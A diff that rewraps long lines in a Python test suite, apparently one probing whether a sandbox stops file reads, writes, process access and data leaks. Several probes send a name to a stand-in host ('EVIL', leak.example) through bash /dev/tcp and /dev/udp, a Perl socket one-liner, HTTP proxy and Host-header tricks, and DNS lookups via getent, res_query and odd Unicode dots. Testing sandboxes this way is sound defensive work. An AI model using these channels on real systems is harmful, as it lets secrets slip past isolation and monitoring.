@@ -86,7 +86,8 @@ def memfd_exec():
 def spawn_opened():
     """The child's descriptor 0 is opened by posix_spawn itself."""
     r, w = os.pipe()
-    pid = os.posix_spawn("/bin/cat", ["cat"], {}, file_actions=[(os.POSIX_SPAWN_OPEN, 0, KEY, os.O_RDONLY, 0), (os.POSIX_SPAWN_DUP2, w, 1)])
+    pid = os.posix_spawn("/bin/cat", ["cat"], {}, file_actions=[(os.POSIX_SPAWN_OPEN, 0, KEY, os.O_RDONLY, 0),
+        (os.POSIX_SPAWN_DUP2, w, 1)])
     os.close(w)
     os.waitpid(pid, 0)
     return DECOY in os.read(r, 100)
@@ -155,7 +156,8 @@ def by_asyncio_datagram():
     import asyncio
 
     async def talk():
-        transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=(EVIL, PORT))
+        transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
+            asyncio.DatagramProtocol, remote_addr=(EVIL, PORT))
         transport.sendto(NAME.encode())
         await asyncio.sleep(0.05)
 
@@ -175,7 +177,8 @@ def by_aliases():
 
 
 def by_res_query():
-    ctypes.CDLL("libc.so.6").res_query(b"%s.leak.example" % NAME.encode(), 1, 16, ctypes.create_string_buffer(4096), 4096)
+    ctypes.CDLL("libc.so.6").res_query(b"%s.leak.example" % NAME.encode(), 1, 16,
+        ctypes.create_string_buffer(4096), 4096)
     return False
 
 
@@ -187,7 +190,8 @@ def thread_calls():
     return False
 
 
-PERL = 'use IO::Socket::INET; $s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1], Proto => $ARGV[2]); print $s $ARGV[3]'
+PERL = 'use IO::Socket::INET; $s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1], ' \
+    'Proto => $ARGV[2]); print $s $ARGV[3]'
 
 
 def ran(*argv):
@@ -215,7 +219,8 @@ PROBES = {
     "py_cat": ("1", "SL", "KEY", lambda: says("cat", KEY)),
     "py_busybox_cat": ("2", "SL", "KEY", lambda: says("busybox", "cat", KEY)),
     "py_env_i": ("1", "SL", "KEY", lambda: says("env", "-i", "/bin/cat", KEY)),
-    "py_glob": ("1", "SL", "KEY", lambda: os.path.basename(KEY) in [os.path.basename(p) for p in glob.glob(os.path.dirname(KEY) + "/*")]),
+    "py_glob": ("1", "SL", "KEY",
+        lambda: os.path.basename(KEY) in [os.path.basename(p) for p in glob.glob(os.path.dirname(KEY) + "/*")]),
     "py_write": ("1", "SL", "WRITE", lambda: done(open(out("file"), "a").write, "x")),
     "py_new": ("1", "SL", "WRITE", lambda: done(open, out("new"), "x")),
     "py_makedirs": ("1", "SL", "WRITE", lambda: done(os.makedirs, out("a/b/c"))),
@@ -245,7 +250,8 @@ PROBES = {
     "py_unix": ("35", "S", "UNIX", unix),
     "py_kill": ("13", "LF", "PALE", lambda: done(os.kill, PALE, signal.SIGURG)),
     "py_proc_mem": ("12", "L", "PALE", lambda: done(os.open, "/proc/%d/mem" % PALE, os.O_RDONLY)),
-    "py_nice": ("14", "F", "PALE", lambda: done(os.setpriority, os.PRIO_PROCESS, PALE, os.getpriority(os.PRIO_PROCESS, 0))),
+    "py_nice": ("14", "F", "PALE",
+        lambda: done(os.setpriority, os.PRIO_PROCESS, PALE, os.getpriority(os.PRIO_PROCESS, 0))),
 }
 # What needs the addresses and names of a network of its own (net.sh).
 ALONE = {
@@ -264,10 +270,13 @@ ALONE = {
     "py_name": ("43", "S", "NET", lambda: calls("host.leak.example")),
     "py_hosts_file": ("43", "S", "NET", lambda: calls("hosts.leak.example")),
     "py_http": ("43", "S", "NET", lambda: fetches("http://hosts.leak.example:%d/%s" % (PORT, NAME))),
-    "py_host_header": ("62", "S", "NET", lambda: fetches("http://%s:%d/%s" % (EVIL, PORT, NAME), headers={"Host": "good.example"})),
-    "py_proxy": ("43", "S", "NET", lambda: fetches("http://good.example/" + NAME, proxies={"http": "http://%s:%d" % (EVIL, PORT)})),
+    "py_host_header": ("62", "S", "NET",
+        lambda: fetches("http://%s:%d/%s" % (EVIL, PORT, NAME), headers={"Host": "good.example"})),
+    "py_proxy": ("43", "S", "NET",
+        lambda: fetches("http://good.example/" + NAME, proxies={"http": "http://%s:%d" % (EVIL, PORT)})),
     "py_shell": ("43", "S", "NET", lambda: child("bash", "-c", "echo %s >/dev/tcp/%s/%d" % (NAME, EVIL, PORT))),
-    "py_shell_datagram": ("59", "S", "NET", lambda: child("bash", "-c", "echo %s >/dev/udp/%s/%d" % (NAME, EVIL, PORT))),
+    "py_shell_datagram": ("59", "S", "NET",
+        lambda: child("bash", "-c", "echo %s >/dev/udp/%s/%d" % (NAME, EVIL, PORT))),
     "py_perl": ("43", "S", "NET", lambda: child("perl", "-e", PERL, EVIL, str(PORT), "tcp", NAME)),
     "py_perl_datagram": ("59", "S", "NET", lambda: child("perl", "-e", PERL, EVIL, str(PORT), "udp", NAME)),
     "py_ask": ("56", "S", "NAMES", lambda: asks(NAME + ".leak.example")),
@@ -277,10 +286,12 @@ ALONE = {
     "py_ask_other_dot": ("56", "S", "NAMES", lambda: asks(NAME + "\u3002leak\uff0eexample")),
     "py_ask_below": ("56", "S", "NAMES", lambda: asks(NAME + ".good.example.leak.example")),
     "py_getent": ("56", "S", "NAMES", lambda: child("getent", "hosts", NAME + ".leak.example")),
-    "py_getent_bare": ("56", "S", "NAMES", lambda: child("env", "-i", "/usr/bin/getent", "ahosts", NAME + ".leak.example")),
+    "py_getent_bare": ("56", "S", "NAMES",
+        lambda: child("env", "-i", "/usr/bin/getent", "ahosts", NAME + ".leak.example")),
     "py_aliases": ("56", "S", "NAMES", by_aliases),
     "py_search": ("56", "S", "NAMES", lambda: child("getent", "ahosts", NAME, LOCALDOMAIN="leak.example")),
-    "py_search_dots": ("56", "S", "NAMES", lambda: child("getent", "ahosts", NAME + ".sub", LOCALDOMAIN="leak.example", RES_OPTIONS="ndots:5")),
+    "py_search_dots": ("56", "S", "NAMES",
+        lambda: child("getent", "ahosts", NAME + ".sub", LOCALDOMAIN="leak.example", RES_OPTIONS="ndots:5")),
     "py_by_tcp": ("56", "S", "NAMES", lambda: child("getent", "ahosts", NAME + ".leak.example", RES_OPTIONS="use-vc")),
     "py_res_query": ("56", "S", "NAMES", by_res_query),
 }
